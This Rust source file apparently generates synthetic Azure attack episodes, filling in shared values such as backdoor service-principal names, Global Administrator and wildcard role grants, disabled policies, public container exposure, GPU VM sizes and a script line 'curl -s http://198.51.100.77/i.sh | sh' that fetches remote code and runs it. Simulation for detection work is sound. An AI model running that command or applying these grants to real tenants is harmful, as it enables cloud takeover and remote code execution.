//! What an episode's calls ask for.

use super::names::{self as azure, ROLES};
use crate::ledger::Note;
use crate::plot::Plot;
use crate::rng::Rng;
use crate::world::World;

/// The values all calls of an episode agree on.
pub(super) fn lures(world: &World, who: u32, plot: &Plot, rng: &mut Rng) -> Note {
    let one = &world.identities[who as usize];
    let mut backdoor =
        ["sp-support-", "sp-monitor-", "sp-sync-", "id-sys-"][rng.index(4)].to_owned();
    rng.hex(&mut backdoor, 4);
    let (principal, kind) = match plot.kind {
        // These give the rights to whom they are already.
        "elevated-access-owner" | "denied-probe-then-change" => (
            one.roles[0].id.clone(),
            if one.label.is_empty() { "ServicePrincipal" } else { "User" },
        ),
        "new-identity-admin" => (one.roles[0].id.clone(), "ServicePrincipal"),
        _ => (azure::object_id(world, &backdoor), "ServicePrincipal"),
    };
    let mut note = vec![
        ("principal-id", principal),
        ("principal-type", kind.to_owned()),
        ("role-id", ROLES[0].1.to_owned()),
        ("entra-role", "Global Administrator".to_owned()),
        ("entra-role-id", "62e90394-69f5-4237-9190-012177145e10".to_owned()),
        ("graph-role", "RoleManagement.ReadWrite.Directory".to_owned()),
        ("permission", "*".to_owned()),
        ("size", (*rng.pick(&["Standard_NC24ads_A100_v4", "Standard_ND96asr_v4"])).to_owned()),
        ("script", "curl -s http://198.51.100.77/i.sh | sh".to_owned()),
        ("public", "true".to_owned()),
        ("exposure", "Container".to_owned()),
        ("policy-state", "disabled".to_owned()),
        ("issuer", "https://login.example.net".to_owned()),
        ("subject", "system:serviceaccount:default:agent".to_owned()),
    ];
    if plot.kind == "directory-takeover" {
        let user = format!("helpdesk-{}@example.com", rng.range(10, 99));
        note.push(("user", user));
    }
    if plot.kind == "new-identity-admin" {
        note.push(("sp", one.name().to_owned()));
    } else if plot.kind == "pipeline-role-and-credentials" {
        // A second secret for an application that is there already.
        let known = &world.accounts[one.account as usize].roles;
        note.push(("sp", rng.pick::<String>(known).clone()));
    } else {
        note.push(("sp", backdoor));
    }
    note
}
